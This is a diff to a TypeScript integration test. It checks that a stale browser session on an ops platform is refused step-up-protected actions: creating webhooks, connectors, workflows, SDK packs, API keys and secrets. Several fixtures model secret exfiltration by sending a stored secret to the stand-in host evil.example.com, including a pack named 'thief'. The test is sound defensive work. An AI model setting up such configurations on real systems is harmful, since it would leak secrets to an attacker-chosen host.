@@ -9,8 +9,10 @@ import {
   SsoLocation,
   SsoLogout,
   ssoStart,
+  stepUpMs,
 } from '@opsplane/contracts'
 import { startOidcIssuer, waitFor } from '@opsplane/testing'
+import postgres from 'postgres'
 import { request } from 'undici'
 import type { z } from 'zod'
 import { type OpenApi, type Operation, operationsOf } from './fuzz/document.js'
@@ -121,6 +123,83 @@ test('a browser signs in by an identity provider, and logs out there as well', a
     expect(removed.status).toBe(204)
   } finally {
     await issuer.stop()
+  }
+})
+
+/** What outlives a session: secrets at a host of somebody else's choice, and keys. */
+const lasting: Record<string, readonly [method: string, target: string, body: object]> = {
+  'a webhook': [
+    'POST',
+    '/webhooks',
+    {
+      name: 'w',
+      url: 'https://evil.example.com',
+      events: ['incident.created'],
+      headers: { 'x-k': '{{secrets.kept}}' },
+    },
+  ],
+  'a connector': [
+    'POST',
+    '/connectors',
+    {
+      ...{ name: 'c', kind: 'http' },
+      config: { baseUrl: 'https://evil.example.com', auth: { type: 'bearer', token: '{{secrets.kept}}' } },
+    },
+  ],
+  'a workflow': [
+    'POST',
+    '/workflows',
+    {
+      name: 'f',
+      definition: {
+        trigger: { type: 'manual' },
+        steps: [
+          { id: 's', type: 'http', url: 'https://evil.example.com', headers: { k: '{{secrets.kept}}' } },
+        ],
+      },
+    },
+  ],
+  'a pack': [
+    'POST',
+    '/sdk/packs/install',
+    {
+      manifest: {
+        ...{ format: 'opsplane.pack/1', name: 'thief', version: '1.0.0' },
+        artifacts: [
+          {
+            ...{ slug: 'thief', kind: 'workflow_action', source: 'a.ts' },
+            permissions: { secrets: ['kept'], http: ['evil.example.com'] },
+          },
+        ],
+      },
+      files: { 'a.ts': "import { artifact } from '@opsplane/sdk'\nexport default artifact(async () => 1)" },
+      grant: { secrets: ['kept'], http: ['evil.example.com'] },
+    },
+  ],
+  'an API key': ['POST', '/auth/tokens', { name: 'k', scopes: ['itsm:read'] }],
+  'a secret': ['POST', '/secrets', { name: 'more', value: 'v' }],
+}
+
+test('a session that signed in long ago makes nothing that outlives it', async () => {
+  const outcomeOf = async (browser: string, [method, target, body]: (typeof lasting)[string]) => {
+    const { status, text } = await ask(method, target, { ...ownPage, cookie: browser }, JSON.stringify(body))
+    return status < 300 ? 'done' : ErrorEnvelope.parse(JSON.parse(text)).error.code
+  }
+  const own = { ...ownPage, cookie }
+  /** The secret serves no host yet: each of these would add one. */
+  const stored = () => ask('POST', '/secrets', own, JSON.stringify({ name: 'kept', value: 'v' }))
+  const stale = cookieIn(await signIn())
+  const sql = postgres(platform.info.postgresUrl, { max: 1 })
+  const [, id] = /_web_([0-9A-Z]{26})_/.exec(stale) ?? []
+  const aged = await sql`
+    update settings.sessions set proved_at = ${new Date(Date.now() - stepUpMs).toISOString()} where id = ${`ses_${id}`}`
+  await sql.end({ timeout: 5 })
+  expect(aged.count).toBe(1)
+  for (const [what, operation] of Object.entries(lasting)) {
+    expect((await stored()).status).toBe(201)
+    expect([what, await outcomeOf(stale, operation)]).toEqual([what, 'step_up_required'])
+    expect([what, await outcomeOf(cookie, operation)]).toEqual([what, 'done'])
+    expect((await ask('DELETE', '/secrets/kept', own)).status).toBe(204)
   }
 })
 
